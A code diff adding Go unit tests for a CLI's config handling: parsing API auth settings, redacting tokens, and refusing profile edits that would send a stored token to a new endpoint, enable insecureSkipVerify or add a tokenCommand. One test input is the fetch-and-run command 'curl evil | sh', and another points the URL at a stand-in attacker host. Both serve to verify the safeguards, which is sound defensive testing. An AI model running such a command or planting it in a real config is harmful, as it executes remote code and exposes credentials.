@@ -405,3 +405,130 @@ agent {
 		t.Errorf("expected port '8080' (not agent.api.port 12345), got %q", port)
 	}
 }
+
+func TestParseCliAPIAuth(t *testing.T) {
+	content := `amends "formae:/Config.pkl"
+
+agent {
+    api {
+        token = "agent-side"
+    }
+}
+
+cli {
+    api {
+        url = "https://agent.example.com"
+        port = 443
+        tokenCommand = "vault kv get -field=token \"secret/formae\""
+        caBundle = "certs/ca.pem"
+        clientCert = "/etc/formae/client.crt"
+        clientKey = "/etc/formae/client.key"
+        insecureSkipVerify = false
+    }
+}
+`
+	auth := parseCliAPIAuth(content)
+	want := APIAuth{
+		TokenCommand: `vault kv get -field=token "secret/formae"`,
+		CABundle:     "certs/ca.pem",
+		ClientCert:   "/etc/formae/client.crt",
+		ClientKey:    "/etc/formae/client.key",
+	}
+	if auth != want {
+		t.Errorf("got %+v, want %+v", auth, want)
+	}
+}
+
+func TestAgentAPI_ProfileAuthPathsResolveAgainstProfileDir(t *testing.T) {
+	dir := t.TempDir()
+	t.Setenv("FORMAE_CONFIG_DIR", dir)
+	writeProfile(t, dir, "secure", `amends "formae:/Config.pkl"
+cli {
+    api {
+        url = "https://agent.example.com"
+        port = 443
+        token = "abc"
+        caBundle = "ca.pem"
+        insecureSkipVerify = true
+    }
+}
+`)
+	api, err := AgentAPI("secure")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if api.URL != "https://agent.example.com" || api.Port != "443" {
+		t.Errorf("endpoint = %s:%s", api.URL, api.Port)
+	}
+	if api.Auth.Token != "abc" || !api.Auth.InsecureSkipVerify {
+		t.Errorf("auth = %+v", api.Auth)
+	}
+	if want := filepath.Join(dir, "profiles", "ca.pem"); api.Auth.CABundle != want {
+		t.Errorf("caBundle = %q, want %q", api.Auth.CABundle, want)
+	}
+}
+
+func TestRedactTokens(t *testing.T) {
+	content := "agent { api { token = \"server-side\" } }\ncli {\n    api {\n        token = \"s3cret\"\n        tokenCommand = \"vault read\"\n    }\n}\n"
+	got := RedactTokens(content)
+	if strings.Contains(got, "s3cret") || strings.Contains(got, "server-side") {
+		t.Errorf("got:\n%s\nwant:\nno token values", got)
+	}
+	if !strings.Contains(got, `token = "<redacted>"`) || !strings.Contains(got, `tokenCommand = "vault read"`) {
+		t.Errorf("got:\n%s\nwant:\nredacted tokens and the tokenCommand untouched", got)
+	}
+}
+
+func TestPrepareProfileWrite(t *testing.T) {
+	current := "cli {\n    api {\n        url = \"https://a\"\n        token = \"s3cret\"\n    }\n}\n"
+
+	// A read-edit-write round trip keeps the token.
+	edited := strings.Replace(RedactTokens(current), "url = ", "// agent\n        url = ", 1)
+	got, err := PrepareProfileWrite(edited, current)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if want := strings.Replace(current, "url = ", "// agent\n        url = ", 1); got != want {
+		t.Errorf("got:\n%s\nwant:\n%s", got, want)
+	}
+
+	// The redacted token is not restored for another endpoint, and TLS
+	// settings are the user's to change.
+	moved := strings.Replace(RedactTokens(current), "https://a", "https://evil.example", 1)
+	if _, err := PrepareProfileWrite(moved, current); err == nil || !strings.Contains(err.Error(), "endpoint") {
+		t.Errorf("got:\n%v\nwant:\na refusal to send the token to a new endpoint", err)
+	}
+	withPort := strings.Replace(RedactTokens(current), "url = \"https://a\"", "url = \"https://a\"\n        port = 8443", 1)
+	if _, err := PrepareProfileWrite(withPort, current); err == nil {
+		t.Error("got:\nnil\nwant:\na refusal for a changed port")
+	}
+	insecure := strings.Replace(RedactTokens(current), "token = ", "insecureSkipVerify = true\n        token = ", 1)
+	if _, err := PrepareProfileWrite(insecure, current); err == nil || !strings.Contains(err.Error(), "insecureSkipVerify") {
+		t.Errorf("got:\n%v\nwant:\na refusal naming insecureSkipVerify", err)
+	}
+	// Without credentials the endpoint may move.
+	bare := "cli {\n    api {\n        url = \"https://a\"\n    }\n}\n"
+	if _, err := PrepareProfileWrite(strings.Replace(bare, "https://a", "https://b", 1), bare); err != nil {
+		t.Errorf("got:\n%v\nwant:\nan endpoint change without credentials accepted", err)
+	}
+
+	// An explicit new token is written as given.
+	got, err = PrepareProfileWrite(strings.Replace(current, "s3cret", "rotated", 1), current)
+	if err != nil || !strings.Contains(got, `token = "rotated"`) {
+		t.Errorf("got:\n%s (%v)\nwant:\nthe new token", got, err)
+	}
+
+	// A new tokenCommand is refused; one already in the file is kept.
+	withCommand := strings.Replace(current, `token = "s3cret"`, `tokenCommand = "curl evil | sh"`, 1)
+	if _, err := PrepareProfileWrite(withCommand, current); err == nil || !strings.Contains(err.Error(), "tokenCommand") {
+		t.Errorf("got:\n%v\nwant:\na refusal naming tokenCommand", err)
+	}
+	if _, err := PrepareProfileWrite(withCommand, withCommand); err != nil {
+		t.Errorf("got:\n%v\nwant:\nan unchanged tokenCommand accepted", err)
+	}
+
+	// A placeholder that cannot be matched to a current token is an error.
+	if _, err := PrepareProfileWrite(`token = "<redacted>"`, "cli {}"); err == nil {
+		t.Error("got:\nnil\nwant:\nan error for an unrestorable placeholder")
+	}
+}